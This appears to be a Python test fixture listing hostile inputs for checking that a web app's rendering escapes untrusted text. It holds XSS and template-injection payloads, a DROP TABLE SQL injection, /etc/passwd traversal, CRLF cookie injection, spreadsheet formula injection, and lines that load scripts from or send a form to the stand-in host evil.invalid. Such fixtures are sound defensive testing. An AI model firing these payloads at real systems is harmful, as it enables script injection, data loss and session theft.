"""Texts that clients and models may send to hurt whoever reads them."""

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.invalid/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus=alert(1) x='",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<form action=/logout/ method=post><button autofocus>",
    "<input autofocus onfocus=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid'>",
    "<base href=//evil.invalid/>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>*{display:none!important}</style>",
    "<div style='position:fixed;inset:0;z-index:9999;background:red'>cover</div>",
    "<div hx-get=/logout/ hx-trigger=load>swap</div>",
    "<div hx-on:click=alert(1)>",
    "<div data-copy=call-id class=theme-button>",
    "</pre></div></main></body></html>gone",
    "</textarea></title></style></noscript><script>alert(1)</script>",
    "<!-- open comment",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "{{ 7|add:7 }}{% include 'base.html' %}{% debug %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[click](javascript:alert(1)) ![x](//evil.invalid/x.png)",
    "\u202egnirts desrever\u202d",
    "tags \U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
    "zero\u200bwidth\u2060joined\ufeff",
    "Z" + "\u0335\u0321\u0322\u0327" * 40 + "algo",
    "A" * 3_000,
    "\N{PILE OF POO}" * 500,
    "https://evil.invalid/" + "a/" * 800,
    "\u0645\u0631\u062d\u0628\u0627 rm -rf",
    "\x1b[31mred\x1b[0m\x07\x08",
    "a\rb\x0bc\x0cd\u2028e\u2029f",
    "null\x00byte",
    "'; DROP TABLE observability_callrecord; --",
    "../../etc/passwd%00%0a",
]

_OUT_OF = ("", '">', "'>", "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>", "`")
"""What a text might stand in, and how it gets out."""
_INTO = (
    "<script>alert(2)</script>",
    "<img src=//evil.invalid/p onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)' autofocus onfocus=alert(1)>x</a>",
    "<iframe src='data:text/html,<script>parent.alert(1)</script>'>",
    "<style>@import '//evil.invalid/x.css';header{display:none}</style>",
    "<form action=//evil.invalid/><input name=csrfmiddlewaretoken><button>x</button>",
    "<link rel=preload as=script href=//evil.invalid/x.js>",
    "<video autoplay onloadstart=alert(1) src=//evil.invalid/x></video>",
    "<h1>Another title</h1><main>another page</main>",
    "{{constructor.constructor('alert(1)')()}}{% csrf_token %}",
    '",\\"x\\":1}]}\n\ndata: {"kind":"finished"}\n\n',
    '=HYPERLINK("//evil.invalid/","x")+cmd|\' /C calc\'!A1',
)
PAYLOADS += [f"{out} {into}".strip() for out in _OUT_OF for into in _INTO]
PAYLOADS += [f"@SUM({sign}1)\t{sign}1" for sign in "+-"]
PAYLOADS += [f"![x](javascript:alert({n})) [x]: javascript:alert({n}) <javascript:alert({n})>" for n in range(3)]
PAYLOADS += ["\N{HEBREW LETTER ALEF}\u2067\u202b" * 40, "\U0001f9d1\u200d\U0001f680" * 200]
PAYLOADS += ["_" * 5_000, "\u00a0\u3000" * 900]
PAYLOADS += ["[" * 3_000, '{"a":' * 500, "\x9b31m\x9d0;title\x07"]
PAYLOADS += ["%00%0d%0aSet-Cookie:x=1", "\ud7ff\ufffd\ufffe", "&" * 900]
